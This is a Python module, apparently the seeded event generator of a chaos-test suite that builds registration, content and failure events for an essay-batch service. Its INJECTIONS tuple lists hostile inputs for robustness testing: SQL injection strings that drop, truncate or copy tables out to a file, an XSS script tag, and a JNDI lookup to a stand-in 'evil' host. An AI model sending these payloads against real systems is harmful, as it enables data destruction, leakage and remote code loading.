"""The seeded factory of events the chaos stream is made of: the generator's settings
(``GenConfig``), the strings that would do damage if any layer pasted text into SQL
(``INJECTIONS``), and ``World``, which builds payloads and envelopes of the three
input events in the many shapes the contract allows (GUEST and REGULAR, bare
payloads, short and topic event types, varied timestamps)."""

from __future__ import annotations

import hashlib
import json
import random
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from chaos.names import COURSE_CODES, SHORT_NAMES, TOPIC_NAMES, VALIDATION_ERROR_CODES

BIG_PAYLOAD_BYTES = 5 * 1024 * 1024

# Strings that would do damage if any layer built SQL by pasting text. Valid
# events carry them in every text field; the database must store them verbatim.
INJECTIONS: tuple[str, ...] = (
    "'; DROP TABLE els.essay_slot; --",
    "Robert'); DROP TABLE els.batch_tracker;--",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "1; SELECT pg_sleep(10); --",
    "$$; DELETE FROM els.event_outbox; $$",
    "$fn$ BEGIN RAISE EXCEPTION 'pwned'; END $fn$",
    "%s %(event)s {0} {event} %%",
    "\\'; TRUNCATE els.essay_content; --",
    "'||(SELECT current_user)||'",
    "E'\\x41'::text",
    "x'); COPY els.batch_tracker TO '/tmp/els-leak'; --",
    "\\\\\\\" ; \\x00 \\u0000",
    "<script>alert('x')</script>",
    "${jndi:ldap://evil/a}",
    "ünïcødé ✓ \U0001d518\U0001d52b\U0001d526 漢字 — 'quoted' \"double\"",
    "-- comment",
    "/* open comment",
    "; ROLLBACK; SET ROLE postgres; --",
    "\t\r\n tab newline",
)


@dataclass(frozen=True)
class GenConfig:
    seed: int = 20261128
    batches: int = 500
    min_essays: int = 1
    max_essays: int = 200
    size_skew: float = 1.25  # > 1: more small batches (about 33 essays on average)
    duplicate_share: float = 0.20  # share of valid deliveries that are redeliveries
    semantic_duplicate_share: float = 0.15  # of those: same event in a new envelope
    failure_rate: float = 0.03  # per slot: a validation failure instead of content
    excess_batches: float = 0.08  # share of batches that receive more content than slots
    excess_max: int = 8  # at most this many extra contents per such batch
    late_registration: float = 0.35  # share of batches whose registration is not first
    unregistered: float = 0.03  # batches that are never registered (content stays pending)
    incomplete: float = 0.06  # registered batches that never get all their items
    bare_payloads: float = 0.05  # events sent without envelope
    injection_batches: int = 12
    malformed: int = 220
    malformed_redeliveries: int = 6
    big_payload_bytes: int = BIG_PAYLOAD_BYTES
    batch_prefix: str = "cb"


def _texts(inj: Callable[[str], str] | None) -> Callable[[str], str]:
    """The text a field gets: its default, or the injection string standing in for it."""
    return inj if inj else (lambda default: default)


class World:
    """Seeded factory of event payloads and envelopes."""

    def __init__(self, rng: random.Random, cfg: GenConfig) -> None:
        self.rng = rng
        self.cfg = cfg
        self.counter = 0

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def next_id(self) -> int:
        self.counter += 1
        return self.counter

    def timestamp(self) -> str:
        day = self.rng.randint(1, 28)
        frac = self.rng.choice(["", ".123", ".123456"])
        zone = self.rng.choice(["Z", "+00:00", "+01:00", "-05:30"])
        return f"2026-11-{day:02d}T{self.rng.randint(0, 23):02d}:{self.rng.randint(0, 59):02d}:" \
               f"{self.rng.randint(0, 59):02d}{frac}{zone}"

    def registration(self, bid: str, essay_ids: list[str], *, guest: bool,
                     inj: Callable[[str], str] | None = None) -> dict[str, Any]:
        rng, text = self.rng, _texts(inj)
        payload: dict[str, Any] = {
            "entity_id": bid,
            "expected_essay_count": len(essay_ids),
            "essay_ids": essay_ids,
            "course_code": rng.choice(COURSE_CODES),
            "user_id": text(f"user-{rng.randint(1, 60)}"),
            "org_id": text(f"org-{rng.randint(1, 5)}") if rng.random() < 0.7 else None,
            "class_id": None if guest else text(f"class-{rng.randint(1, 40)}"),
            "student_prompt_ref": ({"storage_id": text(f"prompt-{rng.randint(1, 9)}")}
                                   if rng.random() < 0.5 else None),
            "metadata": {"origin": text("chaos"), "n": rng.randint(0, 10**6)},
        }
        if inj:
            payload["metadata"][inj("key")] = inj("value")
        return payload

    def content(self, bid: str, tsid: str, *, inj: Callable[[str], str] | None = None
                ) -> dict[str, Any]:
        rng, text = self.rng, _texts(inj)
        payload: dict[str, Any] = {
            "entity_id": bid,
            "text_storage_id": tsid,
            "file_upload_id": text(f"upload-{self.next_id()}"),
            "original_file_name": text(f"essay {rng.randint(1, 999)}.docx"),
        }
        if rng.random() < 0.9:
            payload["raw_file_storage_id"] = text(f"raw-{self.next_id()}")
        if rng.random() < 0.9:
            payload["file_size_bytes"] = rng.randint(0, 5_000_000)
        if rng.random() < 0.8:
            payload["content_md5_hash"] = (inj("md5") if inj else
                                           hashlib.md5(tsid.encode()).hexdigest())
        if rng.random() < 0.5:
            payload["timestamp"] = self.timestamp()
        if inj:
            payload["correlation_id"] = inj("corr")
        return payload

    def failure(self, bid: str, fuid: str, *, inj: Callable[[str], str] | None = None
                ) -> dict[str, Any]:
        rng, text = self.rng, _texts(inj)
        payload: dict[str, Any] = {
            "entity_id": bid,
            "file_upload_id": fuid,
            "original_file_name": text(f"scan {rng.randint(1, 999)}.pdf"),
            "validation_error_code": rng.choice(VALIDATION_ERROR_CODES),
        }
        if rng.random() < 0.7:
            payload["validation_error_detail"] = {"message": text("could not extract"),
                                                  "page": rng.randint(1, 30)}
        if rng.random() < 0.5:
            payload["raw_file_storage_id"] = text(f"raw-{self.next_id()}")
        if rng.random() < 0.5:
            payload["file_size_bytes"] = rng.randint(0, 5_000_000)
        if rng.random() < 0.3:
            payload["timestamp"] = self.timestamp()
        return payload

    def envelope(self, kind: str, payload: dict[str, Any], *, style: str | None = None,
                 correlation_id: str | None = None) -> dict[str, Any]:
        """style: topic | short | untyped | bare (None: drawn)."""
        if style is None:
            r = self.rng.random()
            bare = self.cfg.bare_payloads
            style = ("bare" if r < bare else "short" if r < bare + 0.15
                     else "untyped" if r < bare + 0.2 else "topic")
        if style == "bare":
            return dict(payload)
        env: dict[str, Any] = {
            "event_id": self.uuid(),
            "event_type": TOPIC_NAMES[kind] if style == "topic" else SHORT_NAMES[kind],
            "event_timestamp": self.timestamp(),
            "source_service": {"register": "batch_orchestrator", "content": "file_service",
                               "failure": "file_service"}[kind],
            "schema_version": 1,
            "correlation_id": correlation_id or self.uuid(),
            "data": payload,
            "metadata": {"trace": self.uuid()[:8]} if self.rng.random() < 0.5 else {},
        }
        if style == "untyped":
            del env["event_type"]
        return env

    def encode(self, obj: Any) -> bytes:
        return json.dumps(obj, ensure_ascii=self.rng.random() < 0.3).encode("utf-8")
